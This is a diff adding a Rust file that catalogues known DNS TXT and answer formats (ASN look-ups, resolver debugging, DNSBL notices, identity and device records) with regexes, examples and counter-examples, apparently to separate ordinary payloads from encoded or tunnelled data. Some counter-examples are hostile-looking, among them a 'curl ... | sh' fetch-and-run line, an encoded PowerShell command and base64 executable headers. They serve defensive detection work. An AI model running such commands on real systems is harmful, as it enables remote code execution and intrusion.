@@ -1,0 +1,111 @@
+//! Everything else that a network asks for: routing and reputation look-ups, resolver debugging, software updates, devices
+//! that announce themselves, identities, and what people write into TXT records.
+
+use super::Check::{Pattern, Rule};
+use super::Group::{Device, Http, Identity, Infrastructure, Reputation, Text};
+use super::{Group, Type};
+
+const fn form(name: &'static str, group: Group, pattern: &'static str, examples: &'static [&'static str], counter: &'static [&'static str], room: &'static str, reference: &'static str) -> Type {
+    Type { name, group, check: Pattern(pattern), examples, counter, room, reference }
+}
+
+const HOSTS: &str = "labels of host names";
+const PATH: &str = "a path";
+
+#[rustfmt::skip] // one line a part reads like a table
+pub(super) static TYPES: [Type; 44] = [
+    // ---- routing and registries
+    form("asn_origin", Infrastructure, r"(?:[0-9]{1,10} ){1,6}\| (?:{ip4}|{ip6})/[0-9]{1,3} \| (?:[A-Z]{2}|NA)? ?\| (?:[a-z]{4,8}|NA)? ?\|(?: (?:{date}|NA)?)?",
+        &["64496 | 192.0.2.0/24 | US | arin | 2001-02-03", "64496 64497 | 2001:db8::/32 | NA | NA | NA"],
+        &["64496 | 192.0.2.0/24 | US | arin | d2hvYW1p", "64496 | 192.0.2.0/24"], "", "https://www.team-cymru.com/ip-asn-mapping"),
+    form("asn_name", Infrastructure, r"[0-9]{1,10} \| [A-Z]{2} \| [a-z]{4,8} \| (?:{date})? ?\| [A-Z0-9][A-Z0-9_.-]{1,40}(?:(?: -|,)? [A-Za-z0-9][A-Za-z0-9 .,&()/'-]{0,80})?",
+        &["64496 | US | arin | 2001-02-03 | EXAMPLE-AS - Example Networks Inc., US"], &["64496 | US | arin | 2001-02-03 | "], "the words of a company name", "https://www.team-cymru.com/ip-asn-mapping"),
+    form("asn_compact", Infrastructure, r"[0-9]{1,10}\|(?:{ip4}|{ip6})/[0-9]{1,3}\|[A-Z]{2}\|[a-z]{4,8}\|(?:{date})?", &["64496|192.0.2.0/24|DE|ripencc|"], &["64496|192.0.2.0/24|DE"], "", "https://docs.rspamd.com/modules/asn/"),
+    form("ip_list", Infrastructure, r"(?:{ip4}|{ip6})(?:/[0-9]{1,3}|:[0-9]{1,5})?(?:[ ,;]{1,2}(?:{ip4}|{ip6})(?:/[0-9]{1,3}|:[0-9]{1,5})?)*", &["192.0.2.1", "192.0.2.1:53,198.51.100.2:53", "2001:db8::1/64 192.0.2.0/24"],
+        &["192.0.2.1 d2hvYW1p", "999.0.2.1"], "bytes as addresses", "the text forms of RFC 791 and RFC 4291"),
+    form("resolver_debug", Infrastructure, r"edns0-client-subnet (?:{ip4}|{ip6})/[0-9]{1,3}|(?:ns|ip)(?:{ip4}|{ip6})|ecs(?:{ip4}|{ip6})/[0-9]{1,3}/[0-9]{1,3}|(?:Resolver IP|EDNS0 client subnet): (?:{ip4}|{ip6})(?:/[0-9]{1,3}){0,2}|server m[0-9]{1,3}\.[a-z]{3}|source (?:{ip4}|{ip6}):[0-9]{1,5}|dnscrypt enabled \({HEX}{16}\)|device {HEX}{16}|(?:do53-udp|do53-tcp|dot|doh|dnscrypt-udp)\.?",
+        &["edns0-client-subnet 192.0.2.0/24", "ns198.51.100.3", "ecs192.0.2.0/24/24", "server m12.fra", "doh."], &["nsd2hvYW1p", "edns0-client-subnet x"], "", "https://developers.google.com/speed/public-dns/docs/ecs, https://www.akamai.com/blog/developers/introducing-new-whoami-tool-dns-resolver-information"),
+    form("oarc_test", Infrastructure, r"(?:{ip4}|{ip6}) (?:DNS reply size limit is at least [0-9]{1,5} bytes|sent EDNS buffer size [0-9]{1,5}|lacks EDNS, defaults to 512|is (?:GREAT|GOOD|FAIR|POOR): [0-9]{1,3} queries in [0-9.]{1,5} seconds from [0-9]{1,3} ports with std dev [0-9.]{1,6})",
+        &["192.0.2.8 sent EDNS buffer size 1232"], &["192.0.2.8 sent EDNS buffer size x"], "", "https://www.dns-oarc.net/oarc/services/replysizetest"),
+    form("trust_anchor", Infrastructure, r"\. [0-9]{1,5}(?: [0-9]{1,5}){0,3}", &[". 20326 38696"], &[". x"], "", "unbound(8), trustanchor.unbound"),
+    form("version", Infrastructure, r"(?:(?:v|version|dnsmasq|unbound|NSD|Knot DNS|BIND|PowerDNS (?:Authoritative Server|Recursor)|CoreDNS|Microsoft DNS)[ =:-]?)?[0-9]{1,4}(?:\.[0-9]{1,5}){1,4}(?:[-+][A-Za-z0-9.]{1,14}){0,3}",
+        &["9.18.28-0ubuntu0.22", "dnsmasq-2.90", "unbound 1.19.2", "1.1.0"], &["9.18.28 d2hvYW1p", "dnsmasq-x"], "", "RFC 4892, version.bind"),
+    form("domain_connect", Infrastructure, r"(?:api\.|_)?domainconnect\.{host}(?:/v2)?", &["api.domainconnect.example.com/v2"], &["domainconnect."], HOSTS, "https://www.domainconnect.org/"),
+    form("office_tenant", Infrastructure, r"NETORG(?:FT)?[0-9]{5,9}\.onmicrosoft\.com", &["NETORGFT1234567.onmicrosoft.com"], &["NETORGx.onmicrosoft.com"], "", "seen in public zones"),
+    form("kerberos_realm", Infrastructure, r"(?:[A-Z0-9][A-Z0-9-]{0,30}\.){1,4}[A-Z]{2,12}|LKDC:SHA1\.{HEX}{40}", &["CORP.EXAMPLE.COM", "LKDC:SHA1.0C7E3F5219AB4D0E8F435B6A7C8D9E0F0C7E3F52"], &["CORP", "CORP.example.COM"], HOSTS, "krb5.conf(5)"),
+    form("host_list", Infrastructure, r"{host}\.?(?:[ ,;]{1,2}{host}\.?)*", &["ns1.example.net", "a.example.net,b.example.net"], &["localhost", "a.example.net d2hvYW1p", "a..example.net"], HOSTS, "RFC 1123"),
+    form("caa_text", Infrastructure, r#"(?:0|128) (?:issue|issuewild|issuemail|issuevmc|iodef) "?(?:;|{host}|mailto:{mail})(?:; ?[a-z]+={name})*"?"#, &["0 issue \"ca.example.net\""], &["0 issue d2hvYW1p", "7 issue \"ca.example.net\""], HOSTS, "RFC 8659"),
+    form("tlsa_text", Infrastructure, "[0-3] [01] [0-2] {Hex}{64}(?:{Hex}{64})?", &["3 1 1 0c7e3f5219ab4d0e8f435b6a7c8d9e0f0c7e3f5219ab4d0e8f435b6a7c8d9e0f"], &["3 1 1 0c7e"], "a digest", "RFC 6698"),
+    form("external_dns", Infrastructure, r#""?heritage=external-dns,external-dns/owner={name}(?:,external-dns/(?:resource|set-identifier)=(?:[a-z]{1,20}/)?{name}(?:/{name})?)*"?"#,
+        &["heritage=external-dns,external-dns/owner=cluster-1,external-dns/resource=ingress/default/web"], &["heritage=external-dns,x=d2hvYW1p"], "names of resources", "https://github.com/kubernetes-sigs/external-dns"),
+    form("octodns_meta", Infrastructure, r"octodns-meta(?:,(?:provider={name}|time=[0-9T:.+-]{10,34}|uuid={uuid}|version=[0-9.]{3,12}))+", &["octodns-meta,provider=route53,version=1.10.0"], &["octodns-meta,x=d2hvYW1p"], "a provider's name", "https://github.com/octodns/octodns"),
+    form("arn", Infrastructure, r"arn:aws[a-z-]{0,7}:[a-z0-9-]{2,20}:[a-z0-9-]{0,16}:[0-9]{12}:(?:[a-z-]{2,20}/)?[A-Za-z0-9_+=,.@/-]{1,128}", &["arn:aws:iam::123456789012:role/example-CrossAccountRole-1ABCDEF2GHIJK"], &["arn:aws:iam::1:role/x"], "a name of 128 characters", "https://docs.aws.amazon.com/IAM/latest/UserGuide/reference-arns.html"),
+    form("wpad", Infrastructure, r"service: wpad:!?http://{host}(?::[0-9]{1,5})?/[A-Za-z0-9._-]{1,32}", &["service: wpad:!http://wpad.example.com:80/proxy.pac"], &["service: wpad:d2hvYW1p"], "a short path", "draft-ietf-wrec-wpad-01"),
+    // ---- updates
+    form("clamav", Infrastructure, r"[0-9]{1,2}\.[0-9]{1,3}\.[0-9]{1,2}:[0-9]{1,3}:[0-9]{1,6}:[0-9]{10}:[0-9]:[0-9]{1,3}:[0-9]{1,6}:[0-9]{1,4}", &["1.4.1:62:27400:1735689600:1:90:49192:337"], &["1.4.1:62:27400"], "", "https://docs.clamav.net/appendix/CvdPrivateMirror.html"),
+    form("powerdns_secpoll", Infrastructure, r"[1-3] (?:OK|Unsupported|Upgrade)[A-Za-z ().,-]{0,80}(?:(?:, )?see {url})?", &["1 OK", "3 Upgrade now, see https://doc.powerdns.com/x.html"], &["4 OK", "1 d2hvYW1p"], PATH, "https://docs.powerdns.com/recursor/common/secpoll.html"),
+    form("moneropulse", Infrastructure, r"[a-z][a-z0-9-]{2,24}:[a-z0-9-]{3,24}:[0-9]{1,3}(?:\.[0-9]{1,4}){1,4}:{hex}{64}|[0-9]{4,8}:{hex}{64}", &["monero:linux-x64:0.18.4.0:0c7e3f5219ab4d0e8f435b6a7c8d9e0f0c7e3f5219ab4d0e8f435b6a7c8d9e0f"], &["monero:linux-x64:0.18.4.0:d2hvYW1p"], "a digest", "https://github.com/monero-project/monero"),
+    form("update_note", Infrastructure, r"(?:emails|phishing)\.[0-9]{4}-[0-9]{1,3}A?\.[0-9]{1,2}|count=[0-9]{1,4}|[0-9]{7}", &["emails.2012-15A.4", "count=50", "1907730"], &["count=x"], "", "https://spamassassin.apache.org/, push.apple.com"),
+    // ---- reputation
+    form("dnsbl", Reputation, r"[A-Za-z0-9 .,:/()-]{0,80}(?i:block|listed|spam|infected|exploit|dynamic|proxy|hijack|refused|resolver|brute|reputation|compromised|policy|snowshoe|phishing|test)[A-Za-z0-9 .,:/()-]{0,60}(?:[Ss]ee:?|at|-) <?{url}>?(?: for more information)?(?: \[Your DNS IP: {ip4}\])?",
+        &["Blocked - see https://www.spamcop.net/bl.shtml?192.0.2.4", "Exploitable Server See: http://www.sorbs.net/lookup.shtml?192.0.2.4"], &["Blocked d2hvYW1p", "powershell -enc d2hvYW1p", "curl -s http://192.0.2.4/a | sh"], "words and a path", "RFC 5782"),
+    form("malware_hash", Reputation, "[0-9]{10} [0-9]{1,3}", &["1277221946 79"], &["1277221946 x"], "", "https://www.team-cymru.com/mhr"),
+    form("tor_exit", Reputation, "N:[A-Za-z0-9]{1,19}/P:[0-9]{1,5}(?:,[0-9]{1,5})*/F:[A-Z]{1,10}", &["N:example/P:443,80/F:EFHRSV"], &["N:a b/P:1/F:E"], "a nickname of 19 characters", "https://www.dan.me.uk/dnsbl"),
+    // ---- identity and peer to peer
+    form("did", Identity, "did=did:(?:plc:{b32}{24}|web:{host})", &["did=did:plc:q2w3e4r5t6y7q2w3e4r5t6y7"], &["did=did:plc:d2hvYW1p", "did=did:key:z6Mk"], HOSTS, "https://atproto.com/specs/handle"),
+    form("dnslink", Identity, "dnslink=/(?:ipfs/(?:Qm{b58}{44}|baf{b32}{50,60})|ipns/(?:k51{low}{59}|{host}))(?:/[!-~]{0,80})?", &["dnslink=/ipfs/bafybeidq2w3e4r5t6y7q2w3e4r5t6y7q2w3e4r5t6y7q2w3e4r5t6y7q2"], &["dnslink=/ipfs/d2hvYW1p", "dnslink=x"], "a content identifier", "https://dnslink.dev/"),
+    form("dnsaddr", Identity, "dnsaddr=/(?:ip4/{ip4}|ip6/{ip6}|(?:dns|dns4|dns6|dnsaddr)/{host})(?:/[a-z0-9-]{1,12}(?:/[0-9]{1,5})?){0,5}/p2p/(?:Qm{b58}{44}|12D3KooW{b58}{44})", &["dnsaddr=/ip4/192.0.2.1/tcp/4001/p2p/QmaCpDMGvV2BGHeYERUEnRQAwe3N8SzbUtfsmvsqQLuvuJ"], &["dnsaddr=/ip4/192.0.2.1/tcp/4001/p2p/x"], "a peer identifier", "https://github.com/multiformats/multiaddr/blob/master/protocols/DNSADDR.md"),
+    form("enr", Identity, "enr:-{url64}{120,200}", &["enr:-KG4QOtcP9X1FbIMOe17QNMKqDxCpm14jcX5tiOE4_TyMrFqbmhPZHK_ZPG2Gxb1GE2xdtodOfx9-cgvNtxnRyHEmC0ghGV0aDKQ9aX9QgAAAAD__________4JpZIJ2NIJpcIQDE8KdiXNlY3AyNTZrMaEDhpehBDbZjM_L9ek699Y7vhUJ-eAdMyQW_Fil522Y0f"], &["enr:-x"], "a record of 200 characters", "EIP-778"),
+    form("enrtree", Identity, "enrtree-root:v1 e={B32}{26} l={B32}{26} seq=[0-9]{1,6} sig={url64}{87}|enrtree-branch:{B32}{26}(?:,{B32}{26}){0,12}|enrtree://{B32}{53}@{host}", &["enrtree-branch:QWERTYUIOPASDFGHJKLZXCVBNM,QWERTYUIOPASDFGHJKLZXCVBNM"], &["enrtree-branch:x", "enrtree-root:v1 e=x"], "digests", "EIP-1459"),
+    form("keyoxide", Identity, "aspe:keyoxide\\.org:{B32}{26}|openpgp4fpr:{Hex}{40}|v=pka1;fpr={HEX}{40}(?:;uri={url})?", &["openpgp4fpr:0c7e3f5219ab4d0e8f435b6a7c8d9e0f0c7e3f52"], &["openpgp4fpr:0c7e", "openpgp4fpr:d2hvYW1p"], "a fingerprint", "https://docs.keyoxide.org/"),
+    form("openalias", Identity, "oa1:[a-z]{3,4} recipient_address={an}{26,110};(?: ?(?:recipient_name|tx_description|tx_amount|address_signature|checksum)=[^;]{0,80};?)*", &["oa1:btc recipient_address=1BoatSLRHtKNngkdXEeobR76b53LETtpyT; recipient_name=Example;"], &["oa1:btc recipient_address=x;"], "an address and a name", "https://openalias.org/"),
+    form("bitcoin", Identity, "bitcoin:{an}{0,90}\\?[a-z]{2,4}={low}{20,600}(?:&[a-z]{2,4}={low}{1,600})*|lightning:lnurl1{low}{50,200}", &["bitcoin:?lno=lno1q2w3e4r5t6y7u8q2w3e4r5t6y7u8"], &["bitcoin:x"], "an address", "BIP 353"),
+    form("minisign", Identity, "RWQ{b64}{53}", &["RWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3"], &["RWQx"], "a key", "https://jedisct1.github.io/minisign/"),
+    form("ssh_key", Identity, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{b64}{43}(?: [!-~]{1,64})?|SHA256:{b64}{43}", &["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ops@web"], &["ssh-ed25519 d2hvYW1p"], "a key", "RFC 8709"),
+    form("xmpp", Identity, "_xmpp-client-(?:xbosh|websocket|httppoll)=(?:https?|wss?)://{host}(?::[0-9]{1,5})?/[!-~]{0,80}", &["_xmpp-client-xbosh=https://example.org:5280/http-bind"], &["_xmpp-client-xbosh=d2hvYW1p"], PATH, "XEP-0156"),
+    form("agent", Identity, "v=aid1;(?:[a-z]{1,8}=[^;]{1,120};?)+", &["v=aid1;u=https://api.example.com/mcp;p=mcp;a=pat;s=Example"], &["v=aid1"], "a description", "https://aid.agentcommunity.org/"),
+    form("security_contact", Identity, "security_(?:contact|policy)=(?:mailto:{mail}|{url})", &["security_contact=mailto:security@example.com"], &["security_contact=d2hvYW1p"], PATH, "https://dnssecuritytxt.org/"),
+    form("ens", Identity, "(?:a=|ENS1 {host} )0x{Hex}{40}|ENS1 {host}", &["a=0x0c7e3f5219ab4d0e8f435b6a7c8d9e0f0c7e3f52"], &["a=0x1"], "an address", "https://docs.ens.domains/learn/dns"),
+    // ---- devices
+    Type { name: "dns_sd", group: Device, check: Rule(dns_sd),
+        examples: &["txtvers=1qtotal=1rp=printers/frontty=Example LaserJetadminurl=http://printer.local./pdl=application/pdf", "model=MacBookPro18,3osxvers=23", "VERSION=1.0CPath=/zcStack=SP"],
+        counter: &["txtvers=1", "v=DKIM1; k=rsa; p=TVqQAAMAAAAEAAAA", "t=ping;id=12;d=TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA", "data=TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAA", "model=x d2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1pd2hvYW1p"],
+        room: "values of known keys", reference: "RFC 6763" },
+    Type { name: "dnscrypt_cert", group: Device, check: Rule(dnscrypt_certificate),
+        examples: &["DNSC\0\u{1}\0\0____________signature_of_64_bytes_______________________________public_key_of_32_bytes__________magic___serialfromto"],
+        counter: &["DNSC", "DNSC\0\u{9}\0\0____________signature_of_64_bytes_______________________________public_key_of_32_bytes__________magic___serialfromto"],
+        room: "a signature and a key", reference: "https://dnscrypt.info/protocol/" },
+    // ---- text for people and browsers
+    form("url", Http, "{url}", &["https://example.net/a?b=c#d", "http://example.net"], &["https://localhost/", "https://example.net/ d2hvYW1p", "ftp://example.net/"], PATH, "RFC 3986"),
+    form("redirect", Http, "(?:v=txtv[0-9]; ?)?(?:ALIAS for {host}|[1-9a-z]\\|(?:{host}|{url}|[a-z]{2,8})|(?:to|to=|Redirects to |redirect[ =:]) ?{url}(?:; ?(?:type|code)=[a-z0-9]{1,10})?)", &["1|www.example.fr", "ALIAS for edge.example.net"], &["1|d2hvYW1pd2hvYW1p"], PATH, "OVH, DNSimple, redirect services"),
+    form("parking", Text, "(?i:this (?:domain|site|name|website)|domain|diese domain|ce (?:nom de )?domaine|este dominio|questo dominio)[^\\x00-\\x1f\\x7f=]{3,120}(?i:sale|parked|reserved|registered|expired|verkauf|geparkt|réservé|venta|vendita|disponible)[^\\x00-\\x1f\\x7f=]{0,140}", &["This domain is parked", "Diese Domain steht zum Verkauf"], &["This domain", "parked"], "a sentence", "parking services"),
+];
+
+/// Keys of DNS-SD TXT records, as their service types define them; strings are joined without a gap.
+#[rustfmt::skip]
+const KEYS: [&str; 239] = ["1st", "Binary", "Bind", "CM", "CPath", "Collate", "Color", "Copies", "CtlN", "DESCRIPTION", "DN", "DT", "DbId", "Duplex", "DvSv", "DvTy", "Fax", "ICD", "MAC", "MANUFACTURER", "MODEL", "OSsi", "PH", "PI", "PaperCustom", "PaperMax", "Punch", "RI", "SAI", "SAT", "SII", "Scan", "Sort", "Stack", "Staple", "TBCP", "TLS", "Transparent", "URF", "UUID", "VERSION", "VP", "Ver", "accessPort", "accessType", "acl", "ad", "adVF", "adVN", "adVU", "admin_port", "adminurl", "air", "am", "api", "api_encryption", "app", "arch", "at", "authTag", "base_url", "bb", "board", "bootseq", "bridgeid", "bs", "bt", "btaddr", "c#", "ca", "cd", "ch", "ci", "cn", "cs", "ct", "da", "dcap", "deviceid", "devicetype", "displayModel", "dk0", "dk1", "dk2", "dmv", "dn", "dpv", "dt", "duplex", "ecolor", "ek", "email", "et", "eth", "external_url", "features", "fex", "ff", "flags", "fn", "friendly_name", "ft", "fv", "fwBuildNum", "fwVer", "fw_id", "fw_version", "gcgl", "gen", "gid", "hash", "hhid", "hhsslport", "hspn", "https", "iTSh", "ic", "icolor", "id", "identifier", "igl", "info", "infovers", "internal_url", "is", "jid", "kind", "last", "level", "location", "location_name", "mac", "mac_address", "macaddress", "md", "mdl", "mdnssequence", "mf", "mn", "model", "modelid", "mopria-certified", "mopria-certified-scan", "msg", "mv", "name", "network", "nf", "nick", "nn", "node", "note", "omr", "org.freedesktop.Avahi.cookie", "osvers", "osxvers", "ov", "path", "pdl", "phsh", "pi", "pk", "platform", "printer-state", "printer-type", "priority", "product", "project_name", "protovers", "psi", "pv", "pw", "qtotal", "representation", "requires_api_password", "rm", "rp", "rpAD", "rpBA", "rpFl", "rpHA", "rpHI", "rpHN", "rpMRtID", "rpMac", "rpMd", "rpVr", "rs", "rsf", "rv", "s#", "sb", "secure_admin_port", "serial", "serialNum", "sf", "sh", "sm", "sp", "sq", "sr", "srcvers", "ss", "sslport", "st", "status", "sv", "sys", "tp", "tr", "tv", "txt", "txtvers", "ty", "ups", "usb_CMD", "usb_MDL", "usb_MFG", "uuid", "variant", "vc", "ve", "vendor", "ver", "vers", "version", "version_build", "version_major", "version_minor", "vn", "vs", "vv", "waMa", "webAdmPort", "webAdmSslPort", "webPort", "wifi", "xa", "xp"];
+
+/// Known keys one after the other from the first byte on, each with a value of a length that such values have.
+fn dns_sd(bytes: &[u8]) -> bool {
+    let Some(text) = std::str::from_utf8(bytes).ok().filter(|text| !text.chars().any(char::is_control)) else { return false };
+    let mut starts: Vec<usize> = text.match_indices('=').filter_map(|(at, _)| key_before(text, at)).collect();
+    starts.dedup();
+    let (Some(0), Some(last)) = (starts.first().copied(), starts.last().copied()) else { return false };
+    let short = starts.windows(2).all(|pair| pair[1] - pair[0] <= LONGEST_PAIR) && text.len() - last <= LONGEST_PAIR;
+    // A pair or two alone is a claim that anybody can make; a few keys stand alone in practice.
+    short && !text.contains(';') && (starts.len() >= 3 || starts.len() == 2 && text.len() <= 96 || ["model=", "bridgeid=", "macaddress=", "id=", "path=/", "bt=", "org.freedesktop.Avahi.cookie="].iter().any(|key| text.starts_with(key) && text.len() <= 48))
+}
+
+/// The longest `key=value` taken for one: a public key of 64 hexadecimal digits, a list of document formats.
+const LONGEST_PAIR: usize = 96;
+
+/// Where the known key that ends right before `at` begins: the longest one, since no gap marks its start.
+fn key_before(text: &str, at: usize) -> Option<usize> {
+    let longest = KEYS.iter().filter(|key| text[..at].ends_with(**key)).map(|key| key.len()).max()?;
+    Some(at - longest)
+}
+
+/// A certificate of DNSCrypt version 2: magic, cipher 1 or 2, version 0, then 116 bytes. Every client fetches it hourly.
+fn dnscrypt_certificate(bytes: &[u8]) -> bool {
+    bytes.len() == 124 && bytes.starts_with(b"DNSC\0") && matches!(bytes[5], 1 | 2) && bytes[6..8] == [0, 0]
+}
